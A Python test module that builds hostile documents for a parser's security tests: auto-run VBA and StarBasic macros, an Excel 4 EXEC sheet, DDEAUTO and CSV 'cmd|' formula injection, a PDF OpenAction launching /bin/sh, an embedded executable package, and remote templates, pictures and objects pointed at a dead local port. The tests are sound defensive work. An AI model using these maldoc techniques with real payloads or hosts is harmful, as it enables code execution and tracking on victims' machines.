"""Documents that want to run or fetch something: macros that start by themselves, DDE, templates, objects, live formulas.

Nothing of it may happen, here or in LibreOffice; the form in them is read, or the file has its named outcome. What
fetches asks `NOBODY` in the table; a test that listens makes it ask somebody (`ASKING`).
"""

import io
import zipfile
from collections.abc import Callable, Mapping, Sequence

from parsers.engines import Engine
from parsers.ole import Compound
from tests.builders import word
from tests.builders.binaryword import binary_word, para, row
from tests.builders.excel import SHEET, changed
from tests.builders.hostile_cases import READ, ROWS, Make, Table, good_xlsx
from tests.builders.hostile_pdf import CATALOG, PAGES, page, pdf
from tests.builders.layouts import arrange
from tests.builders.markup import html_form
from tests.builders.oldexcel import file_of, records, xls_form
from tests.builders.ole import Storage, compound
from tests.builders.word import zipped

TABLE = Table()

NOBODY = "http://127.0.0.1:9"  # the port "discard", at which nobody listens
BASIC = "\r\n".join(
    f'Sub {name}()\r\n  Shell "cmd /c calc"\r\nEnd Sub'
    for name in ("AutoOpen", "Document_Open", "Auto_Open", "Workbook_Open", "AutoExec")
)
_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"


def relations(*links: tuple[str, str]) -> str:
    """Given kinds and targets, return the relationships of a part, all of them leading out of the package."""
    listed = "".join(
        f'<Relationship Id="rId{number}" Type="{_RELATIONSHIP}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(links, start=1)
    )
    return f'<Relationships xmlns="{_RELATIONSHIPS}">{listed}</Relationships>'


def packed_source(text: str) -> bytes:
    """Return a source as MS-OVBA 2.4.1 packs it, of literals only."""
    data = text.encode("cp1252")
    chunks = b"\1"
    for start in range(0, len(data), 3_600):  # eight literals take nine bytes, a chunk holds 4,096
        part = data[start : start + 3_600]
        packed = b"".join(b"\0" + part[at : at + 8] for at in range(0, len(part), 8))
        chunks += (0xB000 | len(packed) - 1).to_bytes(2, "little") + packed
    return chunks


def project(module: str) -> dict[str, bytes | Storage]:
    """Return what a VBA project holds (MS-OVBA 2.2.1); the list of its modules is as good as empty."""
    told = f'ID="{{00000000-0000-0000-0000-000000000000}}"\r\nDocument={module}/&H00000000\r\nName="Project"\r\n'
    listed: Storage = {
        "_VBA_PROJECT": b"\xcc\x61\xff\xff\0\0\0",
        "dir": packed_source("\1\0\4\0\0\0\1\0\0\0"),
        module: packed_source(f'Attribute VB_Name = "{module}"\r\n{BASIC}\r\n'),
    }
    return {"PROJECT": told.encode(), "VBA": listed}


def vba(module: str) -> bytes:
    return compound({}, project(module))


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def repacked(data: bytes, change: Callable[[str], str] = str, **more: bytes | str) -> bytes:
    """Return the package with [Content_Types].xml changed and with further parts (`__` stands for a slash)."""
    parts: dict[str, bytes | str] = {**parts_of(data)}
    parts["[Content_Types].xml"] = change(parts_of(data)["[Content_Types].xml"].decode())
    return zipped({**parts, **{name.replace("__", "/"): content for name, content in more.items()}})


def form(rows: Sequence[tuple[str, str]] = ROWS) -> tuple[str, ...]:
    return (
        word.para(word.run("附件2")),
        word.table(*(word.row(*(word.cell(word.para(word.run(text))) for text in one)) for one in rows)),
    )


# --- macros -----------------------------------------------------------------------------------------------------------


def docm() -> bytes:
    return word.package(*form(), main_type=word.MACRO_MAIN, parts={"word/vbaProject.bin": vba("ThisDocument")})


def xlsm() -> bytes:
    def named(types: str) -> str:
        return types.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )

    return repacked(good_xlsx(), named, **{"xl/vbaProject.bin": vba("ThisWorkbook")})


def old_word() -> bytes:
    opened = Compound(binary_word(para("附件2"), *(row(*one) for one in ROWS)))
    streams = {node.name: opened.read(node) for node in opened.children(opened.root)}
    return compound(streams, {"Macros": project("ThisDocument")})


def old_excel() -> bytes:
    found = records(xls_form("附件2", arrange("pairs", ROWS, ()), (), ()))
    return file_of(found, _VBA_PROJECT_CUR=project("ThisWorkbook"))


MACRO_SHEET = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>'


def macro_sheet() -> bytes:
    return repacked(good_xlsx(), xl__macrosheets__sheet1_xml=MACRO_SHEET)


ODF = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office" xmlns:dom="http://www.w3.org/2001/xml-events"'
_DTD = '<!DOCTYPE {0} PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "{1}.dtd">'
_LISTENER = '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Go?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>'


def odt(body: str, scripts: str = "", more: Mapping[str, str] | None = None) -> bytes:
    """Return an .odt with this body; LibreOffice knows only the parts that its manifest lists."""
    kind = "application/vnd.oasis.opendocument.text"
    content = f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF} office:version="1.2">{scripts}<office:body><office:text>{body}</office:text></office:body></office:document-content>'
    parts = {"content.xml": content, **(more or {})}
    listed = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml"/>' for name in parts
    )
    manifest = f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>{listed}</manifest:manifest>'
    return zipped({"mimetype": kind, **parts, "META-INF/manifest.xml": manifest})


def odt_form() -> str:
    lines = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>' for text in one
        )
        + "</table:table-row>"
        for one in ROWS
    )
    return f'<text:p>附件2</text:p><table:table table:name="a"><table:table-column table:number-columns-repeated="2"/>{lines}</table:table>'


def odt_that_writes(path: str) -> bytes:
    """Return an .odt whose macro, run when it is opened, writes the file `path`."""
    basic = f'Sub Go\nf = FreeFile\nOpen "{path}" For Output As #f\nPrint #f, "ran"\nClose #f\nEnd Sub'
    library = 'xmlns:library="http://openoffice.org/2000/library"'
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return odt(
        odt_form(),
        _LISTENER,
        {
            "Basic/script-lc.xml": f'{head}{_DTD.format("library:libraries", "libraries")}<library:libraries {library}><library:library library:name="Standard" library:link="false"/></library:libraries>',
            "Basic/Standard/script-lb.xml": f'{head}{_DTD.format("library:library", "library")}<library:library {library} library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>',
            "Basic/Standard/M.xml": f'{head}{_DTD.format("script:module", "module")}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">{basic}</script:module>',
        },
    )


TABLE.add("macros that start by themselves", "a.docm", docm, READ)
TABLE.add("macros that start by themselves, by the name of a document without", "a.docx", docm, READ)
TABLE.add("macros that start by themselves", "a.xlsm", xlsm, READ)
TABLE.add("macros that start by themselves", "a.doc", old_word, READ, engine=Engine.OFFICE)
TABLE.add("macros that start by themselves", "a.xls", old_excel, READ)
TABLE.add("a sheet of Excel 4 macros", "a.xlsx", macro_sheet, READ)
TABLE.add(
    "a macro that starts when it is opened",
    "a.odt",
    lambda: odt_that_writes("form-intake-macro-ran"),
    "needs_engine",
    full=READ,
    engine=Engine.OFFICE,
)
TABLE.add(
    "a script and a program that start with it",
    "a.pdf",
    lambda: pdf(CATALOG.replace(b">>", b"/OpenAction << /S /JavaScript /JS (app.launchURL('http://127.0.0.1:9/')) /Next << /S /Launch /F (/bin/sh) >> >> >>"), PAGES, page()),
    "empty",
)  # fmt: skip


# --- DDE and live formulas --------------------------------------------------------------------------------------------

DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
COMMAND = "cmd|'/c calc'!A0"


def dde_docx() -> bytes:
    rows = [
        word.row(
            word.cell(word.para(word.run(label))),
            word.cell(word.para(word.field(DDE, value) if label == "职务" else word.run(value))),
        )
        for label, value in ROWS
    ]
    return word.package(word.para(word.run("附件2")), word.table(*rows))


def dde_xlsx() -> bytes:
    def change(xml: str) -> str:
        return xml.replace(
            "</row></sheetData>",
            f'</row><row r="9"><c r="A9" t="str"><f>{COMMAND}</f><v>x</v></c><c r="B9" t="str"><f>WEBSERVICE("{NOBODY}/a")</f><v>y</v></c></row></sheetData>',
        )

    return changed(good_xlsx(), {SHEET: change})


def dde_link() -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    link = f'<externalLink xmlns="{space}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    return repacked(good_xlsx(), xl__externalLinks__externalLink1_xml=link)


TABLE.add("a field that starts a program", "a.docx", dde_docx, READ)
TABLE.add("a formula that starts a program", "a.xlsx", dde_xlsx, READ)
TABLE.add("a link that starts a program", "a.xlsx", dde_link, READ)
TABLE.add(
    "a formula that starts a program",
    "a.csv",
    lambda: ("".join(f"{a},{b}\r\n" for a, b in ROWS) + f"备注,={COMMAND}\r\n").encode("gb18030"),
    READ,
)


# --- what is fetched --------------------------------------------------------------------------------------------------


def remote_template(url: str) -> bytes:
    settings = f'<w:settings {word.DECLARED}><w:attachedTemplate r:id="rId1"/></w:settings>'
    return word.package(
        *form(),
        links=[("rId1", "settings", "settings.xml")],
        parts={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", f"{url}/a.dotm")),
        },
    )


def remote_object(url: str) -> bytes:
    """An object and a picture that lie elsewhere, and one object that lies here: a program in a Package."""
    shape = '<w:object><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="a" DrawAspect="Content" r:id="rId1" UpdateMode="Always"/></w:object>'
    linked = '<w:pict><v:shape><v:imagedata r:id="rId2"/></v:shape></w:pict>'
    inside = compound({"\1Ole10Native": b"\2\0calc.exe\0C:\\calc.exe\0\0\0\3\0" + b"MZ" + bytes(500)})
    return word.package(
        *form(),
        word.para(f"<w:r>{shape}</w:r><w:r>{linked}</w:r>"),
        parts={
            "word/_rels/document.xml.rels": relations(("oleObject", f"{url}/a.html!"), ("image", f"{url}/a.png")),
            "word/embeddings/oleObject1.bin": inside,
        },
    )


def remote_picture(url: str) -> bytes:
    """A picture in a drawing that Word would fetch when it opens the document."""
    drawn = '<w:drawing><wp:inline><wp:extent cx="700000" cy="700000"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="700000" cy="700000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
    return word.package(
        *form(),
        word.para(f"<w:r>{drawn}</w:r>"),
        parts={"word/_rels/document.xml.rels": relations(("image", f"{url}/a.png"))},
    )


def remote_odt(url: str) -> bytes:
    frame = f'<text:p><draw:frame text:anchor-type="as-char" svg:width="2cm" svg:height="2cm"><draw:image xlink:href="{url}/a.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
    section = f'<text:section text:name="a"><text:section-source xlink:href="{url}/a.odt" xlink:type="simple"/><text:p>x</text:p></text:section>'
    return odt(odt_form() + frame + section)


def remote_rtf(url: str) -> bytes:
    rows = "".join(
        "\\trowd\\cellx3000\\cellx9000\\intbl "
        + "".join("".join(f"\\u{ord(one)}?" for one in text) + "\\cell " for text in line)
        + "\\row\n"
        for line in ROWS
    )
    picture = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{url}/a.png" \\\\d}}{{\\fldrslt x}}}}'
    linked = f'{{\\object\\objautlink\\objupdate{{\\*\\objclass htmlfile}}{{\\*\\objdata 00}}}}{{\\field{{\\*\\fldinst INCLUDETEXT "{url}/a.rtf"}}{{\\fldrslt y}}}}'
    return f"{{\\rtf1\\ansi{{\\*\\template {url}/a.dotm}}\\uc1 {rows}\\pard {picture}{linked}\\par}}".encode("ascii")


def remote_html(url: str) -> bytes:
    made = html_form("附件2", arrange("pairs", ROWS, ()), (), ())
    fetched = f'<link rel="stylesheet" href="{url}/a.css"><script src="{url}/a.js"></script><img src="{url}/a.png"><iframe src="{url}/a.html"></iframe>'
    return made.replace("<body>", f"<body>{fetched}").encode()


# by the name under which they come: what would ask the given address, if anybody let it
ASKING: Mapping[str, Callable[[str], bytes]] = {
    "a.odt": remote_odt,
    "b.rtf": remote_rtf,
    "c.docx": remote_template,
    "d.docx": remote_object,
    "e.html": remote_html,
}


def at_nobody(make: Callable[[str], bytes]) -> Make:
    return lambda: make(NOBODY)


TABLE.add("a template that lies elsewhere", "a.docx", at_nobody(remote_template), READ)
TABLE.add("a picture that lies elsewhere", "a.docx", at_nobody(remote_picture), READ)
TABLE.add("objects that lie elsewhere, and a program", "a.docx", at_nobody(remote_object), READ)
TABLE.add("a page full of things that lie elsewhere", "a.html", at_nobody(remote_html), READ)
for _name, _make in (("a.odt", remote_odt), ("a.rtf", remote_rtf)):
    TABLE.add(
        "pictures and pieces that lie elsewhere",
        _name,
        at_nobody(_make),
        "needs_engine",
        full=READ,
        engine=Engine.OFFICE,
    )
